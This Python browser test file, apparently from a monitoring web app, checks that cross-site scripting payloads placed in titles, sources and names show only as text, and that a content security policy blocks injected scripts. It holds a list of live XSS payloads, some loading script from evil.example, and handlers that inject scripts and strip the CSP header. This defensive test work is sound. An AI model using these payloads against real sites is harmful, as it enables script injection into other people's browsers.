"""Row 97: attacks by script as the words of others, in Chromium.

Titles, texts, addresses, notes, reasons, names of sources, of filters and of people are such words.
Nothing of them runs, nothing is asked of anybody, and the browser has nothing to complain of.
"""

from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest
from playwright.sync_api import Page, Route

from monitor.extract.clean import clean
from monitor.flagviews import Guide
from monitor.printable import shortened
from monitor.web.office import Office
from monitor.web.policy import make_policy
from storage.memory import MemoryStore
from storage.records import Changes, DocumentMatches, Story
from tests.browser.conftest import Watch
from tests.browser.serving import serving
from tests.monitor.flagging import make_document, make_flag, make_guide, make_match, make_source
from tests.published import script_attacks
from tests.web.conftest import make_office
from tests.web.house import PERSON, enter, hostile, make_house
from tests.web.routes import PAGES

EVIL = "https://evil.example"
ATTACKS = (
    f"<script src={EVIL}/x.js></script><img src={EVIL}/x onerror=alert(1)><svg onload=alert(2)>",
    f'"\' autofocus onfocus=alert(3) style=background:url({EVIL}/y) x="',
    f"</textarea></title></option><iframe srcdoc='<script>alert(4)</script>' src={EVIL}></iframe>",
    "javascript:alert(5)//\u202e{{7*7}}${7*7}<%= 7*7 %><a href=javascript:alert(6)>x</a>",
)
AT_ONCE = 25  # rows of a page of the queue
IN_A_TEXT = 100
A_QUEUE = 500
Record = Callable[[str, object], None]


def planted(route: Route) -> None:
    """A page of ours with a script slipped into it."""
    answer = route.fetch()
    body = answer.text().replace("</main>", "<script>document.title = 'ran'</script></main>")
    route.fulfill(response=answer, body=body)


def unguarded(route: Route) -> None:
    """The same, and the policy that would have held it is gone."""
    answer = route.fetch()
    body = answer.text().replace("</main>", f"<img src={EVIL}/x><script>alert(1)</script></main>")
    kept = {k: v for k, v in answer.headers.items() if k != "content-security-policy"}
    route.fulfill(response=answer, body=body, headers=kept)


def test_row97_a_planted_script_is_reported_and_does_not_run(page: Page, watch: Watch) -> None:
    with serving(make_house(MemoryStore())) as address:
        page.route("**/keys", planted)
        page.goto(f"{address}/keys")
        assert page.title() != "ran"
        assert len(watch.reports) == 1


def test_row97_without_the_policy_the_watch_would_see_it_run(page: Page, watch: Watch) -> None:
    with serving(make_house(MemoryStore())) as address:
        page.route("**/keys", unguarded)
        page.goto(f"{address}/keys")
        assert watch.dialogs == ["1"]
        assert watch.outside(address) == [f"{EVIL}/x"]


SAMPLES = [
    pytest.param(attack, marks=() if number == 0 else pytest.mark.prove, id=str(number))
    for number, attack in enumerate(ATTACKS)
]


@pytest.fixture(scope="module", params=SAMPLES)
def attacked(request: pytest.FixtureRequest) -> Iterator[tuple[str, str]]:
    house = make_house(MemoryStore(), hostile(request.param))
    signed = replace(house, policy=make_policy(0))
    with serving(signed) as address:
        yield address, enter(house.store)


def test_row97_hostile_words_on_every_page_stay_words(
    page: Page, watch: Watch, attacked: tuple[str, str]
) -> None:
    address, token = attacked
    page.context.add_cookies([{"name": "session", "value": token, "url": address}])
    for way in PAGES:
        page.goto(f"{address}{way.address}")
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        assert watch.seen(address) == [], way.path


# The published lists, each attack in each place.


@pytest.fixture(scope="module")
def attacks(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    found = script_attacks(tmp_path_factory.mktemp("lists"))
    return [words for one in found if (words := clean(one).strip())]  # as a night keeps them


@pytest.mark.prove
@pytest.mark.timeout(1800)
def test_row97_published_attacks_as_titles_and_sources_stay_words(
    page: Page, watch: Watch, attacks: list[str], record_property: Record
) -> None:
    seen = 0
    for first in range(0, len(attacks), A_QUEUE):
        seen += _look_through(page, watch, attacks[first : first + A_QUEUE])
    record_property("attacks as titles and names of sources", seen)
    assert seen == len(attacks)


@pytest.mark.prove
@pytest.mark.timeout(1800)
def test_row97_published_attacks_as_texts_notes_and_names_stay_words(
    page: Page, watch: Watch, attacks: list[str], record_property: Record
) -> None:
    opened = 0
    for first in range(0, len(attacks), IN_A_TEXT):
        words = " ".join(attacks[first : first + IN_A_TEXT])
        house = make_house(MemoryStore(), hostile(words))
        with serving(replace(house, policy=make_policy(0))) as address:
            cookie = {"name": "session", "value": enter(house.store), "url": address}
            page.context.add_cookies([cookie])  # type: ignore[list-item]
            for way in PAGES:
                page.goto(f"{address}{way.address}")
                opened += 1
            page.goto("about:blank")  # what the last page asked for late is asked by now
            assert watch.seen(address) == []
    record_property("pages opened with attacks in every field", opened)


def _look_through(page: Page, watch: Watch, attacks: list[str]) -> int:
    """Read the queue of these attacks to its end; gives how many were shown as they are."""
    seen = 0
    with serving(_listed(attacks)) as address:
        place = "/queue"
        while place:
            page.goto(f"{address}{place}")
            titles = page.locator("[data-row]").all_text_contents()
            wanted = [shortened(one, 160) for one in attacks[seen : seen + AT_ONCE]]
            assert titles == [one or "(no title)" for one in wanted]
            assert watch.seen(address) == []
            seen += len(titles)
            further = page.get_by_role("link", name="Next page")
            place = str(further.get_attribute("href")) if further.count() else ""
    return seen


def _listed(attacks: list[str]) -> Office:
    """A queue with a row an attack, each from a source of that name."""
    store = MemoryStore()
    numbers = range(1, len(attacks) + 1)
    flags = [make_flag(number) for number in numbers]
    store.apply(
        Changes(
            documents=tuple(
                replace(
                    make_document(number, title=attack, url=attack),
                    source_id=f"source-{number}",
                )
                for number, attack in zip(numbers, attacks, strict=True)
            ),
            stories=tuple(
                Story(id=one.story_id, document_id=one.document_id, run_id=one.run_id)
                for one in flags
            ),
            matches=tuple(
                DocumentMatches(document_id=one.document_id, matches=(make_match(),))
                for one in flags
            ),
            flags=tuple(flags),
        )
    )
    sources = {
        f"source-{number}": replace(make_source(f"source-{number}"), name=attack)
        for number, attack in zip(numbers, attacks, strict=True)
    }
    guide: Guide = replace(make_guide(), sources=sources)
    office = replace(make_office(store, single_user=PERSON), guide=guide)
    office.rank_all()  # a page ranks some and shows them first
    return office
